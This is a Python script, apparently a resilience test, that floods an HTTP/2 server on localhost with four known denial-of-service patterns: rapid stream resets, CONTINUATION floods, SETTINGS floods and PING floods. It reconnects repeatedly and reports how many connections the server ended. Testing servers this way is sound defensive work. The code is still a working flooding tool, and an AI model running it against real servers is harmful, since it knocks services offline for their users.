"""One attacker on HTTP/2, as a process: flood.py KIND PORT CA SECONDS.

It comes back with a new connection whenever the server ends one, until its time is over. Then it prints one JSON object: `connections` that
it opened, those that were `ended` by the server, and the most that one of them got rid of (`most`: frames, or resets).
"""

import json
import socket
import ssl
import sys
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.exceptions import ProtocolError
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

ADDRESS = "127.0.0.3"
AT_ONCE = 20
HEAD = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/v1/me")]
CONTINUED = b"\x00\x01x\x7f\x81\x07" + b"y" * 262


class Flood:
    """A connection, and what may be sent on it."""

    def __init__(self, port, authority, deadline):
        context = ssl.create_default_context(cafile=authority)
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(ADDRESS, 0))
        self.wire = context.wrap_socket(plain, server_hostname="localhost")
        self.h2 = H2Connection(H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.deadline, self.sent, self.stream = deadline, 0, 1

    def resets(self):
        """CVE-2023-44487: requests that are begun and given up at once."""
        for _ in range(AT_ONCE):
            self.h2.send_headers(self.stream, HEAD, end_stream=True)
            self.h2.reset_stream(self.stream, ErrorCodes.CANCEL)
            self.stream += 2
        return self.h2.data_to_send()

    def continuations(self):
        """CVE-2024-27983 and its kin: a head without an end."""
        begin = b""
        if self.sent == 0:
            frame = HeadersFrame(1)
            frame.data, frame.flags = self.h2.encoder.encode(HEAD), {"END_STREAM"}
            begin = self.h2.data_to_send() + frame.serialize()
        return begin + ContinuationFrame(1, CONTINUED).serialize() * AT_ONCE

    def settings(self):
        """CVE-2019-9515: each has to be confirmed."""
        return self.h2.data_to_send() + SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize() * AT_ONCE

    def pings(self):
        """CVE-2019-9512: each has to be answered."""
        return self.h2.data_to_send() + PingFrame(0, b"--ping--").serialize() * AT_ONCE

    def run(self, kind):
        """Whether the server ended the connection."""
        make = getattr(self, kind)
        try:
            while time.monotonic() < self.deadline:
                self.wire.sendall(make())
                self.sent += AT_ONCE
                self.read()
            return False
        except (OSError, ProtocolError):
            return True
        finally:
            self.wire.close()

    def read(self):
        """Takes what came, without waiting, and does not look at it; the end of the connection is an error."""
        self.wire.settimeout(0)
        try:
            while True:
                received = self.wire.recv(1 << 16)
                if not received:
                    raise ConnectionResetError
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        finally:
            self.wire.settimeout(5)


def main():
    kind, port, authority, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    deadline = time.monotonic() + seconds
    connections = ended = most = 0
    while time.monotonic() < deadline:
        try:
            flood = Flood(port, authority, deadline)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        ended += flood.run(kind)
        most = max(most, flood.sent)
    print(json.dumps({"connections": connections, "ended": ended, "most": most}), flush=True)


if __name__ == "__main__":
    main()
